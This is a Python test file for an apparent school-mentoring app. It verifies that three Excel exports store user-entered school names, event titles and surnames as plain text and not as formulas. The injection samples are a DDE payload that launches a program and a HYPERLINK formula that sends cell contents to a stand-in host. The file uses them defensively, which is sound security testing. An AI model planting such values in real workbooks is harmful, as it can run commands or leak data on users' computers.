"""Text from imported files stays text in every exported workbook: a school's name or an event's title that
starts with «=» (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) was written as a live formula by the roadmap
and report exports; the bank export already wrote text. All three now write cells one way
(``curator_app.xlsx``)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from curator_app import settings
from curator_app.cli import main
from curator_app.db import close_database
from curator_app.models import Mentee, Person, RoadmapEvent

LINK = '=HYPERLINK("http://example.invalid/?"&A2,"Открыть")'
DDE = "=cmd|' /C calc'!A0"


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<(?:\w+:)?f[\s>]", book.read(name))]


def _texts(path: Path) -> set[str]:
    book = load_workbook(path)
    found = {str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.data_type == "s" and c.value is not None}
    book.close()
    return found


def test_exports_write_user_text_as_text(demo_db: Path, tmp_path: Path) -> None:
    settings.update_school(full_name=LINK, short_name=DDE)
    event = RoadmapEvent.select().first()
    event.title = DDE
    event.save()
    person = Person.get_by_id(Mentee.select().where(Mentee.archived_on.is_null()).first().person_id)
    person.last_name = "=1+1"
    person.save()
    close_database()
    files = {"roadmap": tmp_path / "карта.xlsx", "report": tmp_path / "справка.xlsx", "bank": tmp_path / "банк.xlsx"}
    assert main(["--db", str(demo_db), "export", "roadmap", str(files["roadmap"])]) == 0
    assert main(["--db", str(demo_db), "report", "--out", str(files["report"])]) == 0
    assert main(["--db", str(demo_db), "export", "bank", "mentees", str(files["bank"])]) == 0
    for path in files.values():
        assert _formulas(path) == [], path.name
    assert {DDE} <= _texts(files["roadmap"])
    assert {LINK} <= _texts(files["report"])
    assert any(t.startswith("=1+1 ") for t in _texts(files["bank"]))
    assert any(LINK in t for t in _texts(files["bank"]))  # the title names the school
